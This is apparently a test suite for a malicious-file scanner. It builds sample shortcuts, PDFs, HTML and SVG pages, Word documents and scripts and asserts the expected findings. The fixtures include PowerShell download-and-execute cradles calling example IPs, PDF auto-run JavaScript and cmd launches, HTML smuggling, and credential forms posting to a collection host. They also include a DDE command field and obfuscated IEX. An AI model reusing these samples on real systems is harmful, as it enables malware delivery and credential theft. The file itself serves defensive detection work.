import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { deflateSync } from 'node:zlib';
import { buildZip } from '../../testing/zip-builder.js';
import { analyzeBytes, defaultOptions } from '../index.js';
import type { FileReport } from '../types.js';

const ids = (file: FileReport | undefined) => file?.findings.map((f) => f.id) ?? [];
const analyze = async (bytes: Buffer, name: string) =>
  (await analyzeBytes(bytes, name, defaultOptions())).files[0];

/** A shell link (MS-SHLLINK 2.1-2.4) with LinkInfo and Unicode string data. */
function shortcut(target: string, args: string, icon: string): Buffer {
  const header = Buffer.alloc(0x4c);
  header.writeUInt32LE(0x4c, 0);
  Buffer.from('0114020000000000c000000000000046', 'hex').copy(header, 4);
  // HasLinkInfo | HasName | HasWorkingDir | HasArguments | HasIconLocation | IsUnicode
  header.writeUInt32LE(0x2 | 0x4 | 0x10 | 0x20 | 0x40 | 0x80, 0x14);
  header.writeUInt32LE(7, 0x3c);

  const path = Buffer.from(`${target}\0`, 'latin1');
  const info = Buffer.alloc(0x1c);
  info.writeUInt32LE(0x1c + path.length + 1, 0);
  info.writeUInt32LE(0x1c, 4);
  info.writeUInt32LE(1, 8);
  info.writeUInt32LE(0x1c, 16);
  info.writeUInt32LE(0x1c + path.length, 24);
  const linkInfo = Buffer.concat([info, path, Buffer.from([0])]);

  const text = (s: string) => {
    const length = Buffer.alloc(2);
    length.writeUInt16LE(s.length);
    return Buffer.concat([length, Buffer.from(s, 'utf16le')]);
  };
  return Buffer.concat([
    header,
    linkInfo,
    text('Invoice'),
    text('C:\\Users\\Public'),
    text(args),
    text(icon),
    Buffer.alloc(4),
  ]);
}

function pdf(objects: string[]): Buffer {
  const body = objects.map((o, i) => `${i + 1} 0 obj\n${o}\nendobj\n`).join('');
  return Buffer.from(`%PDF-1.7\n${body}trailer\n<< /Root 1 0 R >>\n%%EOF\n`, 'latin1');
}

describe('shortcuts', () => {
  it('reads target, arguments, working directory and icon, and flags the interpreter', async () => {
    const args = `${' '.repeat(300)}-w hidden -c "iwr http://198.51.100.7/a.ps1 | iex"`;
    const lnk = shortcut(
      'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      args,
      'C:\\Program Files\\Microsoft\\Edge\\msedge.exe,11',
    );
    const file = await analyze(lnk, 'Invoice.pdf.lnk');
    assert.equal(file?.detectedType, 'lnk');
    assert.equal(
      file?.details?.['target'],
      'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    );
    assert.equal(file?.details?.['arguments'], args);
    assert.equal(file?.details?.['workingDir'], 'C:\\Users\\Public');
    assert.equal(
      file?.details?.['iconLocation'],
      'C:\\Program Files\\Microsoft\\Edge\\msedge.exe,11',
    );
    for (const id of [
      'lnk-runs-interpreter',
      'lnk-padded-arguments',
      'lnk-download-or-encoded',
      'lnk-borrowed-icon',
      'lnk-hidden-window',
      'name-double-extension',
    ]) {
      assert.ok(ids(file).includes(id), id);
    }
  });
});

describe('PDF', () => {
  it('finds JavaScript run on open, also behind #xx escapes or compression', async () => {
    const plain = pdf([
      '<< /Type /Catalog /OpenAction 2 0 R >>',
      '<< /S /JavaScript /JS (app.launchURL\\("http://evil.example.org/x"\\)) >>',
    ]);
    const file = await analyze(plain, 'statement.pdf');
    assert.ok(ids(file).includes('pdf-javascript'));
    assert.equal(file?.findings.find((f) => f.id === 'pdf-open-action')?.severity, 'high');

    const escaped = pdf(['<< /Type /Catalog /OpenAction << /S /J#61vaScr#69pt /JS (x) >> >>']);
    const hidden = await analyze(escaped, 'escaped.pdf');
    assert.ok(ids(hidden).includes('pdf-javascript'));
    assert.ok(ids(hidden).includes('pdf-obfuscated-names'));

    const inner = deflateSync(Buffer.from('<< /S /Launch /F (cmd.exe) >>'));
    const stream = Buffer.concat([
      Buffer.from(
        `%PDF-1.5\n1 0 obj\n<< /Type /ObjStm /Filter /FlateDecode /Length ${inner.length} >>` +
          '\nstream\n',
      ),
      inner,
      Buffer.from('\nendstream\nendobj\n%%EOF\n'),
    ]);
    assert.ok(ids(await analyze(stream, 'packed.pdf')).includes('pdf-launch'));
  });

  it('unpacks an embedded file', async () => {
    const exe = 'MZ fake';
    const file = await analyze(
      pdf([
        '<< /Type /Filespec /F (readme.txt) /EF << /F 2 0 R >> >>',
        `<< /Type /EmbeddedFile /Length ${exe.length} >>\nstream\n${exe}\nendstream`,
      ]),
      'carrier.pdf',
    );
    assert.ok(ids(file).includes('pdf-embedded-file'));
    assert.equal(file?.children[0]?.name, 'readme.txt');
    assert.equal(file?.children[0]?.size, exe.length);
  });
});

describe('HTML', () => {
  it('flags smuggling and a credential form that posts elsewhere', async () => {
    const page = Buffer.from(`<html><body><script>
      var b = new Blob([bytes], {type: 'application/octet-stream'});
      var a = document.createElement('a'); a.href = URL.createObjectURL(b);
      a.download = 'invoice.iso'; a.click();
      </script>
      <form action="https://collect.example.net/p.php" method="post">
      <input type="email" name="u"><input type="password" name="p"></form></body></html>`);
    const file = await analyze(page, 'invoice.html');
    assert.ok(ids(file).includes('html-smuggling'));
    assert.equal(file?.findings.find((f) => f.id === 'html-credential-form')?.severity, 'high');
  });

  it('reads script in an SVG picture', async () => {
    const svg = Buffer.from(
      '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>' +
        'window.location.href = "https://login.example.net/o365";</script></svg>',
    );
    const file = await analyze(svg, 'voicemail.svg');
    assert.equal(file?.detectedType, 'svg');
    assert.ok(ids(file).includes('html-redirect'));
  });

  it('reads a page hidden behind unescape', async () => {
    const inner = '<form action="https://collect.example.net/p"><input type="password"></form>';
    const page = Buffer.from(`<script>document.write(unescape('${escape(inner)}'))</script>`);
    const item = await analyzeBytes(page, 'page.htm', defaultOptions());
    assert.ok(ids(item.files[0]).includes('html-credential-form'));
    assert.ok(item.indicators.urls.includes('https://collect.example.net/p'));
  });
});

describe('OOXML', () => {
  const contentTypes = {
    name: '[Content_Types].xml',
    content: Buffer.from(
      '<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="' +
        'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>' +
        '</Types>',
    ),
  };

  it('flags a remote template and a DDE field', async () => {
    const docx = buildZip([
      contentTypes,
      {
        name: 'word/document.xml',
        content: Buffer.from(
          '<w:document><w:body><w:p><w:r><w:instrText> DDEAUTO ' +
            'c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r></w:p>' +
            '</w:body></w:document>',
        ),
      },
      {
        name: 'word/_rels/settings.xml.rels',
        content: Buffer.from(
          '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/' +
            'officeDocument/2006/relationships/attachedTemplate" ' +
            'Target="http://203.0.113.9/t.dotm" TargetMode="External"/></Relationships>',
        ),
      },
    ]);
    const file = await analyze(docx, 'offer.docx');
    assert.equal(file?.detectedType, 'ooxml');
    assert.ok(ids(file).includes('ooxml-remote-template'));
    assert.ok(ids(file).includes('ooxml-dde'));
  });
});

describe('scripts', () => {
  it('sees through PowerShell tick and cast obfuscation, and reads an HTA as a page', async () => {
    const ps1 = Buffer.from("& ('I'+'EX') ([char]0x49 + 'wr'); $x = 'Down'+'loadString'; I`E`X $y");
    const [script] = (await analyzeBytes(ps1, 'run.ps1', defaultOptions())).files;
    const obfuscated = script?.findings.find((f) => f.id === 'script-obfuscated')?.summary;
    assert.match(obfuscated ?? '', /\[char\] casts, backtick-split words, split keywords/);
    const hta = Buffer.from(
      '<html><script>var b = new Blob([x]); navigator.msSaveOrOpenBlob(b, "a.exe");' +
        '</script></html>',
    );
    const [app] = (await analyzeBytes(hta, 'update.hta', defaultOptions())).files;
    assert.equal(app?.detectedType, 'script');
    assert.ok(ids(app).includes('html-smuggling'));
  });

  it('decodes an encoded PowerShell command and flags the download', async () => {
    const command = Buffer.from(
      "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/s')",
      'utf16le',
    ).toString('base64');
    const js = Buffer.from(
      'var s = new ActiveXObject("WScript.Shell");\n' +
        `s.Run("powershell -w hidden -enc ${command}", 0);`,
    );
    const item = await analyzeBytes(js, 'invoice.js', defaultOptions());
    const [file] = item.files;
    assert.equal(file?.detectedType, 'script');
    assert.ok(ids(file).includes('script-downloader'));
    assert.ok(ids(file).includes('script-obfuscated'));
    assert.ok(item.indicators.urls.includes('http://198.51.100.9/s'));
  });
});
